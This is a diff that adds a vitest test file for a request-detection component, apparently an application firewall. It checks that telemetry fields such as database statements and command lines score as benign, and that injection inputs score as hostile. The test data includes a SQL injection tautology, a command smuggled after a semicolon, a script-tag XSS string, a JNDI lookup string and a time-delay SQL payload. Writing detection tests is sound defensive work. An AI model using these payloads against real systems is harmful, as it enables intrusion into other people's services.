@@ -1,0 +1,72 @@
+import { canonicalRequest, extractRequest } from '@sallyport/traffic';
+import { describe, expect, it } from 'vitest';
+import { createDetection } from './detection.ts';
+
+const detection = createDetection({ model: null });
+
+function scoreOf(body: string, type = 'application/json'): number {
+  const bytes = Buffer.from(body);
+  const { request } = canonicalRequest({
+    method: 'POST',
+    target: '/in',
+    scheme: 'https',
+    headers: [
+      ['host', 'api.bank.example'],
+      ['content-type', type],
+      ['content-length', String(bytes.length)],
+    ],
+    body: { state: 'complete', bytes },
+  });
+  return detection.inspect(extractRequest(request).leaves, request, null).score;
+}
+
+const scoreOfJson = (value: unknown): number => scoreOf(JSON.stringify(value));
+
+const STATEMENT = "UPDATE accounts SET balance = balance - 5 WHERE id = 'a' AND version = 2";
+const COMMAND = '/bin/sh -c "exec node server.js"';
+const TRACE =
+  'Traceback (most recent call last):\n  File "/etc/app/x.py", line 3, in y\n    cursor.execute("SELECT id FROM t WHERE a = 1")';
+const BREAK = "x' OR '1'='1";
+const attribute = (key: string, stringValue: string): object => ({
+  resourceSpans: [{ resource: { attributes: [{ key, value: { stringValue } }] } }],
+});
+
+describe('members that say what they hold', () => {
+  it.each<[string, unknown]>([
+    ['a statement of a data base call', attribute('db.statement', STATEMENT)],
+    ['a command line', attribute('process.command_line', COMMAND)],
+    ['a tag', [{ tags: { 'sql.query': STATEMENT } }]],
+    [
+      'a frame of a stack trace',
+      { exception: { values: [{ stacktrace: { frames: [{ context_line: '  window.location.href = url;' }] } }] } },
+    ],
+    ['a log line of a stream', { streams: [{ stream: {}, values: [['1767225600000000000', `executing ${COMMAND}`]] }] }],
+    ['a message beside the signs of a log', [{ ddsource: 'java', message: STATEMENT }]],
+    ['a level and a time', { level: 'error', time: '2026-03-12T10:00:00Z', msg: TRACE }],
+    ['an event inside of its envelope', { sourcetype: '_json', event: { msg: STATEMENT } }],
+    ['a query that is stored', { name: 'monthly', sql: STATEMENT }],
+    ['a sample of a report', { 'csp-report': { 'script-sample': 'javascript:void(0)' } }],
+  ])('%s', (_, value) => {
+    expect(scoreOfJson(value)).toBeLessThan(0.3);
+  });
+
+  it.each<[string, unknown]>([
+    ['another attribute', attribute('app.note', STATEMENT)],
+    ['a value with an attribute of another', { attributes: [{ key: 'db.statement' }, { key: 'x', value: { stringValue: COMMAND } }] }],
+    ['a message of a form', { name: 'Bob', message: `;${COMMAND}` }],
+    ['a literal that is left in a log', [{ ddsource: 'java', message: BREAK }]],
+    ['a literal that is left in a statement', attribute('db.statement', BREAK)],
+    ['markup in a log', [{ '@timestamp': 'x', message: '<script>alert(1)</script>' }]],
+    ['a lookup in a log', [{ '@timestamp': 'x', message: '${jndi:ldap://x.example/a}' }]],
+    ['what waits in a statement', { sql: "1; waitfor delay '0:0:5'--" }],
+    ['what stands beside a log', { ddsource: 'java', message: 'x', user: BREAK }],
+  ])('no excuse: %s', (_, value) => {
+    expect(scoreOfJson(value)).toBeGreaterThanOrEqual(0.5);
+  });
+
+  it('lines of a log, and a text that is none', () => {
+    const line = '2026-03-12T10:00:00Z DEBUG sql - ';
+    expect(scoreOf(`${line}${STATEMENT};\n${line}${STATEMENT};`, 'text/plain')).toBeLessThan(0.3);
+    expect(scoreOf(`note\n${STATEMENT};`, 'text/plain')).toBeGreaterThanOrEqual(0.5);
+  });
+});
